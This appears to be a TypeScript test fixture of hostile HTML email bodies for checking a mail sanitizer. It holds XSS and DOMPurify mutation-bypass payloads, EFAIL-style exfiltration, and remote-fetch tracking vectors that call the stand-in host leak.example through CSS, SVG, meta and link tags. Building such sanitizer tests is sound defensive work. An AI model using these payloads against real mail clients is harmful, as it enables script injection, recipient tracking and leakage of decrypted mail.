/**
 * Mails that try to run, to fetch, to cover the window or to lead away. Each holds the word SAFE, which must survive. Shapes
 * from published attacks: EFAIL, the DOMPurify bypasses by mutation, the SVG `feImage` request, style sheets that fetch.
 */

export interface HostileMail {
  readonly name: string;
  readonly html: string;
}

const LEAK = "https://leak.example/hit";

export const hostileMails: readonly HostileMail[] = [
  { name: "script element", html: `<p>SAFE</p><script>parent.pwned=1</script><script src="${LEAK}"></script>` },
  {
    name: "event handlers",
    html: `<p onclick="pwned=1">SAFE</p><img src=x onerror="parent.pwned=1"><body onload=pwned=1>`,
  },
  {
    name: "javascript address",
    html: `<p>SAFE</p><a href="javascript:parent.pwned=1">x</a><a href=" java\nscript:pwned=1">y</a>`,
  },
  { name: "data address", html: `<p>SAFE</p><a href="data:text/html,<script>pwned=1</script>">x</a>` },
  {
    name: "svg feImage",
    html: `<p>SAFE</p><svg><filter><feImage href="${LEAK}"/></filter><image href="${LEAK}"/></svg>`,
  },
  {
    name: "svg use and animate",
    html: `<p>SAFE</p><svg><use href="${LEAK}#x"/><a><animate attributeName=href values="javascript:pwned=1"/></a></svg>`,
  },
  { name: "svg script", html: `<p>SAFE</p><svg onload="pwned=1"><script>pwned=1</script></svg>` },
  { name: "math link", html: `<p>SAFE</p><math href="javascript:pwned=1"><mtext>x</mtext></math>` },
  { name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=${LEAK}"><p>SAFE</p>` },
  {
    name: "meta policy and referrer",
    html: `<meta http-equiv="Content-Security-Policy" content="img-src *"><p>SAFE</p>`,
  },
  {
    name: "form",
    html: `<p>SAFE</p><form action="${LEAK}"><input name=q autofocus><button formaction="${LEAK}">x</button></form>`,
  },
  {
    name: "remote picture",
    html: `<p>SAFE</p><img src="${LEAK}"><img srcset="${LEAK} 1x"><picture><source srcset="${LEAK}"></picture>`,
  },
  {
    name: "protocol-relative picture",
    html: `<p>SAFE</p><img src="//leak.example/hit"><img src="cid:x"><img src="data:image/svg+xml,<svg/>">`,
  },
  {
    name: "media",
    html: `<p>SAFE</p><video src="${LEAK}" poster="${LEAK}"></video><audio src="${LEAK}"></audio><track src="${LEAK}">`,
  },
  {
    name: "frames and objects",
    html: `<p>SAFE</p><iframe src="${LEAK}" srcdoc="<script>pwned=1</script>"></iframe><object data="${LEAK}"></object><embed src="${LEAK}">`,
  },
  {
    name: "css url",
    html: `<p style="background:url(${LEAK});color:red">SAFE</p><p style="background-image:URL('${LEAK}')">x</p>`,
  },
  {
    name: "css image-set and friends",
    html: `<p style='background-image:image-set("${LEAK}" 1x);list-style-image:url(${LEAK});cursor:url(${LEAK}),auto;border-image-source:url(${LEAK});mask-image:url(${LEAK});shape-outside:url(${LEAK});content:url(${LEAK});filter:url(${LEAK}#f)'>SAFE</p>`,
  },
  { name: "css escapes", html: `<p style="background:u\\72l(${LEAK});background:\\75rl(${LEAK})">SAFE</p>` },
  { name: "css comments", html: `<p style="background:u/**/rl(${LEAK});background:url/*x*/(${LEAK})">SAFE</p>` },
  { name: "css variables", html: `<p style="--x:url(${LEAK});background-image:var(--x)">SAFE</p>` },
  { name: "style import", html: `<style>@import "${LEAK}";@import url(${LEAK});p{color:red}</style><p>SAFE</p>` },
  {
    name: "style font-face and selectors",
    html: `<style>@font-face{font-family:f;src:url(${LEAK})}p[title^=a]{background:url(${LEAK})}p{font-family:f}</style><p title=abc>SAFE</p>`,
  },
  {
    name: "style expression and behaviour",
    html: `<p style="width:expression(pwned=1);behavior:url(${LEAK});-moz-binding:url(${LEAK})">SAFE</p>`,
  },
  { name: "base", html: `<base href="https://leak.example/"><p>SAFE</p><img src="hit"><a href="hit">x</a>` },
  {
    name: "link preload and prefetch",
    html: `<link rel=preload href="${LEAK}" as=image><link rel=dns-prefetch href="//leak.example"><link rel=stylesheet href="${LEAK}"><p>SAFE</p>`,
  },
  {
    name: "table and body backgrounds",
    html: `<table background="${LEAK}"><tr><td background="${LEAK}">SAFE</td></tr></table>`,
  },
  {
    name: "ping and download",
    html: `<p>SAFE</p><a href="https://ok.example/" ping="${LEAK}" download target="_top">x</a>`,
  },
  {
    name: "cover the window",
    html: `<div style="position:fixed;inset:0;z-index:9999;background-color:white">SAFE</div>`,
  },
  {
    name: "mutation: noscript",
    html: `<p>SAFE</p><noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>`,
  },
  {
    name: "mutation: math and style",
    html: `<p>SAFE</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`,
  },
  {
    name: "mutation: form in table",
    html: `<p>SAFE</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`,
  },
  { name: "mutation: svg and style", html: `<p>SAFE</p><svg></p><style><a id="</style><img src=1 onerror=pwned=1>">` },
  {
    name: "mutation: template",
    html: `<p>SAFE</p><template><script>pwned=1</script></template><div><template shadowrootmode=open><img src="${LEAK}"></template></div>`,
  },
  {
    name: "mutation: comment ends",
    html: `<p>SAFE</p><!--><img src=x onerror=pwned=1>--><!--!><script>pwned=1</script>`,
  },
  {
    name: "mutation: textarea and title",
    html: `<p>SAFE</p><textarea></p><img src=x onerror=pwned=1></textarea><title><img src=x onerror=pwned=1></title>`,
  },
  {
    name: "mutation: renamed svg",
    html: `<p>SAFE</p><svg><proton-svg><style><p title="</style><iframe onload=pwned=1>"></style></proton-svg></svg>`,
  },
  {
    name: "clobbering",
    html: `<p>SAFE</p><form id=attributes><input name=nodeName></form><img name=body><a id=cookie></a>`,
  },
  { name: "attributes named like prototypes", html: `<p __proto__=x constructor=y>SAFE</p>` },
  {
    name: "plaintext and xmp",
    html: `<p>SAFE</p><xmp><script>pwned=1</script></xmp><plaintext><script>pwned=1</script>`,
  },
  { name: "efail: open quote before a second part", html: `<p>SAFE</p><img src="${LEAK}?` },
  { name: "bidi and zero width in links", html: `<p>SAFE</p><a href="https://ok.example/\u202Egpj.exe">x</a>` },
];
